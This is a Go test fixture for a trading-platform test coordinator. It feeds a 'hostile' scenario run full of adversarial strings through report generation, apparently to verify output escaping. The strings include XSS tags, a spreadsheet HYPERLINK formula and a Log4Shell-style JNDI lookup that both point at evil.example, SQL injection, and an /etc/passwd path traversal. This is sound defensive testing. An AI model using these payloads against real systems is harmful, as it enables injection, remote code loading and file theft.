package reporttest

import (
	"fmt"
	"strings"
	"time"

	contract "github.com/quantfidential/trading-ecosystem/test-coordinator-data-adapter-go/internal/gen/testcoordination/v1"
	"github.com/quantfidential/trading-ecosystem/test-coordinator-data-adapter-go/internal/report"
)

// Nasty are texts that break what does not escape: each stands somewhere in the
// report of the hostile run.
var Nasty = []string{
	`<script>alert("x")</script>`,
	`"><img src=x onerror=alert(1)>`,
	`=HYPERLINK("http://evil.example","click")`,
	`+1+1 -2 @SUM(A1)`,
	`]]></failure><system-out>`,
	`' OR 1=1; -- "quoted" \ back`,
	"\x1b[2J\x1b[31mred\x1b[0m\a",
	"line 1\nline 2\r\n{\"level\":\"error\"}\ttab",
	"\u202eright to left\u202c and \u2028 line separator",
	"| table | `code` ``` [link](javascript:alert(1)) # head",
	"&amp; &lt; & < >",
	"\U0001F600 emoji \ufeff bom \u200b zero width \ufffd",
	"{{ .Parameters.x }} ${jndi:ldap://evil.example/a} %s %n",
	"../../etc/passwd",
	"\x7f\u0085\u009bcontrol",
}

// nasty is a text of them all, beginning with one.
func nasty(n int) string {
	return Nasty[n%len(Nasty)] + " " + Nasty[(n+1)%len(Nasty)]
}

func hostile() *Run {
	s := tell("hostile", "every text is out to break what shows it", "exec-hostile-001", 1, Base.Add(11*24*time.Hour))
	long := strings.Repeat("long ", 4000) + "<end>"
	s.say(&contract.ExecutionRequested{
		ExecutionId: s.id(), ScenarioId: "hostile", ScenarioVersion: "1", Environment: nasty(0),
		Parameters: object(`{"<script>": "</script>", "=cmd()": [1e2, 1.50, -0.0], "big": 1e22, "quote\"key": {"b": null, "a": "\u202e"}}`),
		Trigger:    &contract.Trigger{Type: nasty(1), Actor: nasty(2), Uri: "javascript:alert(1)"},
		Labels:     map[string]string{nasty(3): nasty(4), "empty": ""},
	})
	s.at(time.Second).say(&contract.ExecutionStarted{ExecutionId: s.id(), ConfigurationSnapshot: value(fmt.Sprintf("%q", "x"))})
	s.say(&contract.ExecutionPhaseStarted{ExecutionId: s.id(), Phase: nasty(5), Description: nasty(6)})
	s.say(&contract.ExecutionPhaseStarted{ExecutionId: s.id(), Phase: "| empty |"})
	s.say(&contract.ExecutionStepStarted{ExecutionId: s.id(), StepId: "s-1", Kind: "parallel_action", Phase: nasty(5), Service: nasty(7), Action: nasty(8), Parameters: object(`{"]]>": "<!--"}`)})
	s.at(2 * time.Second).say(&contract.ExecutionStepFinished{ExecutionId: s.id(), StepId: "s-1", Kind: "parallel_action", Status: "failed", Error: nasty(9)})
	s.say(&contract.ExecutionFaultInjected{ExecutionId: s.id(), FaultId: "f:1", FaultType: nasty(10), TargetService: nasty(11), BlastRadius: nasty(12), Phase: nasty(13)})
	s.say(&contract.ExecutionFaultCleared{ExecutionId: s.id(), FaultId: "f:1", Error: nasty(14)})
	for i := range Nasty {
		s.at(time.Duration(3+i) * time.Second).say(&contract.ExecutionValidationRecorded{
			ExecutionId: s.id(), ValidationId: fmt.Sprintf("v.%d", i), AssertionType: nasty(i), Status: []string{"passed", "failed", "skipped", "error"}[i%4],
			FaultId: "f:1", Service: nasty(i + 1), Phase: nasty(i + 2), Expected: nasty(i + 3), Actual: nasty(i + 4), Operator: nasty(i + 5), Unit: nasty(i + 6),
			Message: nasty(i + 7), CorrelationId: "</td>", Evidence: value(fmt.Sprintf("[%q, {}]", strings.ToValidUTF8("<b>"+strings.Repeat("x", i*400), ""))),
		})
	}
	s.at(20 * time.Second).say(&contract.ExecutionValidationRecorded{ExecutionId: s.id(), ValidationId: "v.long", AssertionType: "alert <b>", Status: "passed", Message: long, Expected: long, Actual: long})
	s.say(&contract.ExecutionValidationRecorded{ExecutionId: s.id(), ValidationId: "v.empty", AssertionType: "-", Status: "passed"})
	for i, kind := range []string{"baseline", "pre_injection", "post_injection", "recovery"} {
		s.at(time.Duration(21+i) * time.Second).say(&contract.ExecutionSnapshotCaptured{
			ExecutionId: s.id(), SnapshotId: fmt.Sprintf("snap:%d", i), Kind: kind, Service: nasty(i / 4), Health: nasty(i),
			State:   value(fmt.Sprintf(`{"<k>": %d, "list": ["</script>", %d], "]]>": null}`, i, i)),
			Metrics: map[string]float64{nasty(1): float64(i) * 1e21, "zero": 0, "tiny": 1e-9 * float64(i)},
		})
	}
	for i, level := range []string{"fatal", "ERROR", "warn", "info", "<b>", ""} {
		s.at(time.Duration(30+i)*time.Second).log(
			&contract.LogLine{Message: nasty(i), Level: level, Service: nasty(i + 1), Phase: nasty(i + 2), StepId: "s-1", Attributes: object(`{"alert": "<script>", "circuit_breaker": "]]>"}`)},
			&contract.LogLine{Message: long, Level: level},
		)
	}
	future := s.began.AddDate(10, 0, 0)
	s.clock = future
	s.say(&contract.ExecutionPaused{ExecutionId: s.id(), Reason: nasty(0)})
	s.at(time.Minute).say(&contract.ExecutionFinished{ExecutionId: s.id(), Outcome: "failed", ErrorMessage: nasty(4), Summary: value(`{"html": "<h1>&</h1>", "n": 123456789.25}`)})
	s.own(&contract.ExecutionAnnotated{ExecutionId: s.id(), Run: 1, Author: nasty(1), Text: nasty(2)})
	s.run.Definition = &report.DefinitionSource{
		ScenarioID: "hostile", Number: 1, Author: nasty(3), Type: nasty(4), Services: Nasty, ExpectedOutcomes: []string{""},
		Text: "apiVersion: chaos.trading/v1\nkind: Scenario\nmetadata:\n  name: '<script>alert(1)</script>'\n  description: \"]]> & =1+1\"\nspec:\n  variables:\n    x: '<b>'\n  phases:\n    - name: one\n  success_criteria:\n    - '<i>'\n    - {a: '</td>'}\n",
	}
	return s.done()
}
